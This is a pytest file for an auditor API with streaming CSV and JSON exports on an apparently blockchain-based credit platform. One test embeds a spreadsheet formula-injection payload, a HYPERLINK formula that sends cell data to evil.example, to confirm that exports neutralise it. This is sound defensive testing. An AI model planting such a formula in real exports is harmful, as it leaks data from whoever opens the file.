"""The auditor API: only the auditor (and the operator) read it; exports stream the lists."""

from __future__ import annotations

import csv
import io
import json

import pytest

from api.audit.exports import neutralise
from api.auth.models import Role
from api.retirement.certificates import reason_hash, reason_salt
from tests.audit.conftest import Activity, AuditWorld
from tests.world import assert_problem

pytestmark = [pytest.mark.chain, pytest.mark.database]

LISTS = [
    "/audit/supply/series",
    "/audit/holders",
    "/audit/transfers",
    "/audit/batches",
    "/audit/retirements",
    "/audit/attestations",
    "/audit/identities",
    "/audit/events",
]
READS = [
    *LISTS,
    "/audit/status",
    "/audit/summary",
    "/audit/supply",
    "/audit/integrity",
    "/audit/issuance/daily",
    "/audit/retirements/daily",
    "/audit/market",
    "/audit/reconciliation",
    "/audit/holders/0x0000000000000000000000000000000000000001",
    *(f"{path}/export" for path in LISTS),
]


@pytest.fixture
def indexed(audit_world: AuditWorld, activity: Activity) -> AuditWorld:
    activity.mixed(10)
    audit_world.index()
    return audit_world


def _all(aw: AuditWorld, path: str, headers: dict[str, str], limit: int = 3) -> list[dict]:
    items: list[dict] = []
    cursor = None
    while True:
        params: dict[str, object] = {"limit": limit}
        if cursor:
            params["cursor"] = cursor
        page = aw.client.get(path, params=params, headers=headers)
        assert page.status_code == 200, page.text
        items += page.json()["items"]
        cursor = page.json()["next_cursor"]
        if cursor is None:
            return items


def test_auditor_routes_refuse_every_other_role(indexed: AuditWorld) -> None:
    aw = indexed
    others = [aw.world.sign_up("citizen"), aw.world.sign_up("business")]
    others += [aw.world.staff(role) for role in (Role.verifier, Role.data_provider)]
    for path in READS:
        assert_problem(aw.client.get(path), 401, "invalid-token")
        for user in others:
            assert_problem(aw.client.get(path, headers=user.headers), 403, "forbidden")
    for role in (Role.auditor, Role.operator):
        staff = aw.world.staff(role)
        for path in READS:
            response = aw.client.get(path, headers=staff.headers)
            assert response.status_code == 200, (path, response.text)
    # Read-only: nothing under /audit takes a write.
    auditor = aw.auditor()
    assert aw.client.post("/audit/holders", headers=auditor.headers).status_code == 405


def test_exports_stream_and_equal_the_lists(indexed: AuditWorld, activity: Activity) -> None:
    aw = indexed
    # A reason a spreadsheet would run as a formula never reaches the chain: the platform puts
    # its salted commitment there, which the index and CSV keep as is (issue 15; the CSV's
    # neutralising is tests/unit/test_csv_injection.py).
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    committed = reason_hash(reason_salt("0x" + "5a" * 32), formula)
    activity.retire(aw.platform.accounts.bob, 5, reason=committed)
    aw.index()
    headers = aw.auditor().headers
    retirements = aw.client.get("/audit/retirements/export", headers=headers)
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(retirements.text))]
    assert committed in reasons and not any("HYPERLINK" in reason for reason in reasons)
    for path in LISTS:
        listed = _all(aw, path, headers)
        assert listed, path
        with aw.client.stream(
            "GET", f"{path}/export", params={"format": "json"}, headers=headers
        ) as response:
            assert response.status_code == 200
            assert "content-length" not in response.headers  # streamed, not buffered
            exported = json.loads(b"".join(response.iter_bytes()))
        assert exported == listed, path
        response = aw.client.get(f"{path}/export", headers=headers)
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert len(rows) == len(listed), path
        for row, item in zip(rows, listed, strict=True):
            for key, value in item.items():
                expected = (
                    json.dumps(value, separators=(",", ":")) if isinstance(value, dict) else value
                )
                if isinstance(expected, bool):
                    expected = str(expected)
                if isinstance(expected, str):
                    expected = neutralise(expected)
                assert row[key] == ("" if expected is None else str(expected)), (path, key)


def test_supply_batches_claims_provenance_and_filters(indexed: AuditWorld, activity) -> None:
    aw = indexed
    headers = aw.auditor().headers
    token = aw.platform.token.functions
    supply = aw.client.get("/audit/supply", headers=headers).json()
    assert int(supply["circulating"]) == token.totalSupply().call()
    assert int(supply["retired"]) == token.totalRetired().call()
    series = _all(aw, "/audit/supply/series", headers)
    at_time = aw.client.get(
        "/audit/supply", params={"time": series[0]["block_time"]}, headers=headers
    ).json()
    assert at_time["issued"] == series[0]["issued"]
    early = aw.client.get(
        "/audit/supply", params={"block": series[0]["block_number"]}, headers=headers
    ).json()
    assert early["issued"] == series[0]["issued"]
    too_far = aw.client.get("/audit/supply", params={"block": 10**9}, headers=headers)
    assert_problem(too_far, 409, "block-not-indexed")
    batches = _all(aw, "/audit/batches", headers)
    first = batches[0]
    assert first["merkle_root"].startswith("0x")
    claims = _all(aw, f"/audit/batches/{first['batch_id']}/claims", headers)
    assert len(claims) == first["claim_count"]
    provenance = aw.client.get(
        f"/audit/claims/{claims[0]['claim_id']}/provenance", headers=headers
    ).json()
    assert provenance["issued"] is True
    (issuance,) = provenance["issuances"]
    assert (issuance["batch_id"], issuance["merkle_root"], issuance["tx_hash"]) == (
        first["batch_id"],
        first["merkle_root"],
        first["tx_hash"],
    )
    # Minted straight on chain, not earned through the API: no off-chain record to show.
    assert provenance["record"] is None and provenance["record_source"] == "EarningClaimRecords"
    unknown = aw.client.get(f"/audit/claims/0x{'00' * 32}/provenance", headers=headers)
    assert_problem(unknown, 404, "not-found")
    # Windows by block: only what lies inside.
    later = aw.client.get(
        "/audit/batches", params={"from_block": batches[-1]["block_number"]}, headers=headers
    ).json()["items"]
    assert [b["batch_id"] for b in later] == [batches[-1]["batch_id"]]
    bad = aw.client.get("/audit/transfers", params={"cursor": "nonsense"}, headers=headers)
    assert_problem(bad, 422, "invalid-cursor")
    integrity = aw.client.get("/audit/integrity", headers=headers).json()
    assert integrity["ok"] is True, integrity
    daily = aw.client.get("/audit/issuance/daily", headers=headers).json()
    assert sum(int(d["total"]) for d in daily) == int(supply["issued"])
    summary = aw.client.get("/audit/summary", headers=headers).json()
    assert summary["batches"] == len(batches)


def test_numbers_beyond_a_database_integer_are_refused_before_any_query(
    indexed: AuditWorld,
) -> None:
    aw = indexed
    headers = aw.auditor().headers
    huge = str(2**64)  # found by the long fuzzing run: a crash in the middle of an export
    for path, param in [
        ("/audit/batches/export", "from_block"),
        ("/audit/transfers", "to_time"),
        ("/audit/supply", "block"),
    ]:
        assert_problem(
            aw.client.get(path, params={param: huge}, headers=headers), 422, "validation-error"
        )
    # A NUL character, which PostgreSQL cannot hold (also found by fuzzing), in any parameter.
    for path in ("/audit/retirements", "/audit/retirements/export"):
        refused = aw.client.get(path, params={"holder": "\x00"}, headers=headers)
        assert_problem(refused, 422, "validation-error")
